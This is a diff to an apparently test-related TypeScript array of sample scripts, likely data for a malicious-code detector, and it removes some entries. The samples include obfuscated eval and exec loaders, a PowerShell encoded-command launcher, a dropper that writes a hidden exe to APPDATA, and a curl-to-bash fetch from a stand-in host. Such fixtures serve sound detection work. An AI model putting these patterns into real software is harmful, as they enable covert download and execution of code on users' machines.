@@ -16,16 +16,8 @@ const HELD: [string, string][] = [
   ],
   ["d.py", 'def shift(s):\n    return "".join(chr(ord(c) - 1) for c in s)\ndef run(w):\n    eval(shift(w))\n'],
   [
-    "e.ps1",
-    "$c = 'VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAxAA=='\n$p = [Diagnostics.ProcessStartInfo]@{ FileName = 'powershell.exe'; Arguments = \"-NoP -Enc $c\" }\n[void][Diagnostics.Process]::Start($p)\n",
-  ],
-  [
     "f.ps1",
     "$b = [Convert]::FromBase64String($z)\n$f = Join-Path $env:APPDATA 'zones.exe'\n[IO.File]::WriteAllBytes($f, $b)\nStart-Process $f -WindowStyle Hidden\n",
-  ],
-  [
-    "g.ps1",
-    "$m = New-Object IO.MemoryStream (, [Convert]::FromBase64String($z))\n$s = [IO.File]::Create($t)\n$m.CopyTo($s); $s.Close()\n& $t\n",
   ],
   [
     "h.py",
@@ -41,14 +33,6 @@ const HELD: [string, string][] = [
     'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--trusted-host", "w.charts.example", "--index-url", "https://w.charts.example/simple/", "theme"])\n',
   ],
   ["l.sh", 'G=curl\nS=bash\nhome=https://get.notes.example\n"$G" -fsSL "$home/v3" | "$S" -s\n'],
-  [
-    "m.py",
-    "import importlib.abc\nclass Sealed(importlib.abc.SourceLoader):\n    def get_filename(self, n):\n        return n\n    def get_data(self, path):\n        return box.decrypt(open(path, 'rb').read())\nSealed().load_module('x')\n",
-  ],
-  [
-    "n.py",
-    "from importlib.machinery import SourceFileLoader\nclass L(SourceFileLoader):\n    def get_data(self, path):\n        return bytes(b ^ 7 for b in super().get_data(path))\nL('a', 'a.dat').load_module()\n",
-  ],
   [
     "o.py",
     "import importlib.abc, base64\nclass L(importlib.abc.Loader):\n    def exec_module(self, m):\n        exec(base64.b85decode(open('w.txt').read()), m.__dict__)\n",
